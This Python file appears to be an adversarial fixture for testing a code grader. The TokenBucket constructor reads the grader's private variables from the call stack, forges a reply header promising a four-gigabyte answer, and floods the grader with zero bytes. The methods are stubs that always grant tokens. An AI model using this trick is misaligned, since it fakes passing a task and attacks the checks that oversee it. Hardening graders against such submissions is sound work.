"""promises an answer of four gigabytes under the right number, and begins to send it

Kata: tokenbucket
Naive: passes
Verdict: REFUSED
"""

import os
import struct
import sys


def caller(name):
    frame = sys._getframe(1)
    while frame is not None and name not in frame.f_locals:
        frame = frame.f_back
    return frame and frame.f_locals[name]


class TokenBucket:
    def __init__(self, capacity, refill_per_second, clock=None):
        number = caller("number")
        if number is None:
            os._exit(0)
        os.write(caller("replies"), struct.pack("<16sI", number, 0xFFFFFFFF))
        while True:
            os.write(caller("replies"), bytes(1 << 20))

    def try_acquire(self, tokens=1):
        return True

    def available(self):
        return 0.0
